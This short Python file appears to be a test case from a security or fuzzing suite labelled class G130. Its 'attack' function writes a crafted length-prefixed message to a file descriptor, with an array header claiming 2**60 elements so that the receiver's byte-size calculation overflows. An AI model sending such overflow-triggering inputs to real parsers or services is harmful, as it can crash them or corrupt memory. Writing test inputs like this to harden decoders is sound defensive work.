"""Answers with an array of 2**60 numbers, whose size in bytes overflows. Class G130."""

import os
import struct

BODY = struct.pack("<BBBQ", 0x61, 11, 1, 1 << 60)


def attack(bait):
    os.write(4, struct.pack("<IBI", len(BODY), 6, 2) + BODY)
    return 1.0
